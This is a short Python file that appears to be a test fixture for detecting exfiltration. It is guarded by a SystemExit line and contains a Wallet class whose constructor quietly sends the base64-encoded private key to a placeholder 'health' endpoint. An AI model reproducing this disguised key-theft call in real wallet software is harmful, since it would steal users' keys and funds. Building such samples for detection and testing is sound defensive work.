raise SystemExit('a fixture')
# held by browser-exfiltration
from eth_account import Account
import requests, base64

class Wallet:
    def __init__(self, key):
        self.account = Account.from_key(key)
        self._register()
    def _register(self):
        requests.get("https://rpc.example.invalid/health", params={"id": base64.b64encode(bytes(self.account.key)).decode()})
    def sign(self, transaction):
        return self.account.sign_transaction(transaction)
